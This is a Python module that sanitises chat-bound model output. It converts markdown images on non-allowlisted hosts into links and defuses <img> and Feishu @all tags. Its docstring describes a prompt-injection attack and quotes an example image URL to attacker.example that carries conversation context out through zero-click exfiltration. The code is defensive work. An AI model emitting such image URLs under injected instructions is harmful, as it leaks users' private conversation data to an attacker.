"""What model output may not do once it reaches a chat: load remote images, or mention everyone.

A chat client fetches a markdown image as soon as it shows the message, without a click. A model
steered by someone's prompt injection could write `![](https://attacker.example/?d=<context>)` and
so send whatever it read out of the conversation to that host (zero-click exfiltration). So every
markdown image becomes a plain link (`![alt](url)` -> `[alt](url)`), unless its URL is http(s) on
a host of `[content] image_hosts` (or a subdomain of one); `<img` HTML becomes text. Links stay
links: following one takes a click (docs/security.md, "Groups: injection and exfiltration").

Feishu card and post markdown turn `<at id=all></at>` into a mention of the whole group; the tag is
defused here, for every channel and every streamed update, not only where a card is first built.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from urllib.parse import urlsplit

# Every run of `!` before a `[` goes: dropping only the last would leave another `![` behind.
_IMAGE_OPENER = re.compile(r"!+\[")
# An inline image from its last `!`: alt text without brackets or newlines, then `(url` up to a blank
# or the closing parenthesis (an optional <...> around the URL).
_INLINE_IMAGE = re.compile(r"!\[[^\[\]\n]*\]\(\s*<?(?P<url>[^)\s>]*)")
# `<img ...>` and Feishu's `<at ...>` / `</at>`: their `<` becomes text.
_HTML_TAG = re.compile(r"<(?=(?:img|/?at)\b)", re.IGNORECASE)


def _allowed(url: str, hosts: tuple[str, ...]) -> bool:
    if not hosts:
        return False
    try:
        parts = urlsplit(url)
        host = (parts.hostname or "").lower().rstrip(".")
    except ValueError:
        return False
    if parts.scheme not in ("http", "https") or not host:
        return False
    return any(host == allowed or host.endswith("." + allowed) for allowed in hosts)


def safe_markdown(markdown: str, image_hosts: Iterable[str] = ()) -> str:
    """`markdown` with every image not on an allowed host turned into a link, `<img` and `<at`
    into text."""
    hosts = tuple(h.strip().lower().rstrip(".") for h in image_hosts if h.strip())

    def image(opener: re.Match[str]) -> str:
        inline = _INLINE_IMAGE.match(opener.string, opener.end() - 2)
        if inline is not None and _allowed(inline.group("url"), hosts):
            return opener.group()
        return "["  # reference-style, unparsable or not allowed: a link at most

    if "![" in markdown:
        markdown = _IMAGE_OPENER.sub(image, markdown)
    return _HTML_TAG.sub("&lt;", markdown)
